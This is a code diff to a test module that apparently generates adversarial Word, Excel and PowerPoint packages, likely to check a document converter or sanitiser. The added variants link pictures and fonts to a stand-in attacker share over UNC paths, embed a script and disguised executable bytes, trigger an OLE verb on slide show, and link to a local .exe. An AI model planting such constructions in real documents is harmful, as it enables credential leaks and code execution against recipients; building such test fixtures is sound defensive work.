@@ -12,6 +12,7 @@ from collections.abc import Callable
 from functools import partial
 from pathlib import Path
 
+from tests.converters.adversarial.bases import png_bytes
 from tests.converters.adversarial.opc import Package
 from tests.converters.adversarial.variants import Variant
 
@@ -21,6 +22,7 @@ MC_PREFIXES = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
 MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
 IMAGE_SOURCE = {"docx": "word/document.xml", "xlsx": "xl/drawings/drawing1.xml", "pptx": "ppt/slides/slide2.xml"}
 OLE_CT = "application/vnd.openxmlformats-officedocument.oleObject"
+REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 VBA_CT = "application/vnd.ms-office.vbaProject"
 W_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"
 X_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
@@ -196,6 +198,42 @@ def word_activex(name: str, package: Package) -> None:
         "</Relationships>").encode()
     _body(package, f'<w:p><w:r><w:object><w:control r:id="{rel}" w:name="TextBox1" w:shapeid="_x0000_s1027"/>'
                    "</w:object></w:r></w:p>")
+
+
+def numbering_picture_bullet(package: Package) -> None:
+    """A picture bullet (numbering part) whose picture is fetched from a share."""
+    rel = package.add_relationship("word/numbering.xml", "image", r"\\attacker.example\share\b.png", external=True)
+    package.insert_after_first("word/numbering.xml", r"<w:numbering[^>]*>",
+                               '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape id="_x0000_i1099" '
+                               'type="#_x0000_t75" style="width:9pt;height:9pt"><v:imagedata '
+                               f'r:id="{rel}" o:title=""/></v:shape></w:pict></w:numPicBullet>')
+
+
+def external_font(package: Package) -> None:
+    rel = package.add_relationship("word/fontTable.xml", "font", r"\\attacker.example\share\f.odttf", external=True)
+    package.insert_before_last("word/fontTable.xml", "</w:fonts>",
+                               f'<w:font w:name="Adv"><w:embedRegular r:id="{rel}" '
+                               'w:fontKey="{00000000-0000-0000-0000-000000000001}"/></w:font>')
+
+
+def theme_image(extension: str, package: Package) -> None:
+    """A background fill style in the theme whose picture is linked from a share."""
+    theme = next(n for n in package.parts if "/theme/theme" in n and n.endswith(".xml"))
+    rel = package.add_relationship(theme, "image", r"\\attacker.example\share\t.png", external=True)
+    package.insert_before_last(theme, "</a:bgFillStyleLst>",
+                               f'<a:blipFill><a:blip xmlns:r="{REL_NS}" r:link="{rel}"/><a:stretch><a:fillRect/>'
+                               "</a:stretch></a:blipFill>")
+
+
+def custom_xml_script(package: Package) -> None:
+    item = next(n for n in package.parts if n.startswith("customXml/item") and "Props" not in n and n.endswith(".xml"))
+    package.parts[item] = b'<?xml version="1.0"?><root><html><body><script>alert(1)</script></body></html></root>'
+
+
+def replace_bytes(part: str, data: bytes, package: Package) -> None:
+    if part not in package.parts:
+        raise KeyError(f"the base has no {part}")
+    package.parts[part] = data
 
 
 def mail_merge(package: Package) -> None:
@@ -381,6 +419,15 @@ def slide_activex(package: Package) -> None:
                                        f'{rel}" imgW="914400" imgH="914400"/></p:controls>')
 
 
+def timing_verb(package: Package) -> None:
+    """An animation step that sends an OLE verb to a shape when the slide shows (no click)."""
+    package.insert_before_last(SLIDE, "</p:sld>",
+                               '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" '
+                               'nodeType="tmRoot"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2" '
+                               'dur="1" fill="hold"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd>'
+                               "</p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>")
+
+
 def run_link(target: str, package: Package) -> None:
     package.edit("ppt/slides/_rels/slide2.xml.rels", 'Target="https://www.example.lg.jp/report"', f'Target="{target}"')
 
@@ -455,6 +502,8 @@ def _generic(extension: str) -> dict[str, Callable[[Package], None]]:
         "vba-default-extension-upper-case": partial(vba_upper_default, extension),
         "customUI-onLoad": custom_ui,
         f"ole-bytes-as-{folder}-theme-part": lambda p: p.parts.__setitem__(f"{folder}/theme/theme9.bin", vba()),
+        "png-with-PE-appended": partial(image_bytes, png_bytes() + pe_bytes()),
+        "theme-background-image-unc": partial(theme_image, extension),
     }
 
 
@@ -493,6 +542,11 @@ def package_variants() -> list[Variant]:
         "duplicate-document-entry-planted-first": partial(duplicate_document, False),
         "main-part-elsewhere-decoy-document": main_part_elsewhere,
         "main-part-target-percent-encoded": main_part_percent_encoded,
+        "numbering-picture-bullet-unc": numbering_picture_bullet,
+        "fontTable-external-font-unc": external_font,
+        "customXml-item-script": custom_xml_script,
+        "thumbnail-is-PE": partial(replace_bytes, "docProps/thumbnail.jpeg", pe_bytes()),
+        "hyperlink-file-targetmode-trailing-space": partial(word_hyperlink, "file:///C:/x/a.exe", "External "),
     }
     for construct, build in word.items():
         out.append(Variant("package", construct, "plain", "word", "word.docx", build))
@@ -540,6 +594,10 @@ def package_variants() -> list[Variant]:
         ("sound-external-unc", "shape-click"): partial(slide_media, "sound"),
         ("video-external-unc", "shape"): partial(slide_media, "video"),
         ("activeX-control", "slide"): slide_activex,
+        ("timing-cmd-verb", "slide"): timing_verb,
+        ("printerSettings-is-PE", "presentation"): partial(replace_bytes, "ppt/printerSettings/printerSettings1.bin",
+                                                           pe_bytes()),
+        ("thumbnail-is-PE", "package"): partial(replace_bytes, "docProps/thumbnail.jpeg", pe_bytes()),
     }
     for (construct, where), build in slides.items():
         out.append(Variant("powerpoint", construct, "plain", where, "slides.pptx", build))
